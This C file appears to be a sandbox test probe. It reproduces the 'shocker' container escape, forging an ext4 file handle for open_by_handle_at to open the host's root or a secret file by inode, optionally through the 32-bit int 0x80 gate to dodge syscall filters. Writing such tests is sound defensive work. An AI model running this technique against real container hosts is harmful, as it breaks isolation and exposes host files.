/* open_by_handle_at(): names a file of the host by inode number, from any file of that file system ("shocker", 2014).
 * usage: shocker root|file|int80, the last for the file by the 32-bit gate */
#include "common.h"

int main(int argc, char **argv)
{
	/* An ext4 handle is an inode and a generation; generation 0 matches every file. Inode 2 is the root. */
	static union { struct file_handle head; uint32_t words[4]; } handle = {.words = {8, 1, 2, 0}};
	const char *how = argc > 1 ? argv[1] : "root";
	int file = strcmp(how, "root");
	int fd;
	int mount = open("/lab/init", O_RDONLY);
	if (mount < 0)
		lab_die("/lab/init");
	if (file)
		handle.words[2] = (uint32_t)lab_env_num("LAB_SECRET_INODE");
	if (!strcmp(how, "int80"))
		fd = (int)lab_check(lab_syscall_int80(342, mount, (long)&handle, O_RDONLY, 0), "open_by_handle_at by int 0x80");
	else
		fd = (int)lab_violate4("open_by_handle_at", SYS_open_by_handle_at, mount, &handle, O_RDONLY, 0);
	if (!file)
		fd = openat(fd, lab_env("LAB_SECRET") + 1, O_RDONLY);
	if (fd < 0)
		lab_die("open the secret below the host's root");
	lab_print_fd(fd);
	return 0;
}
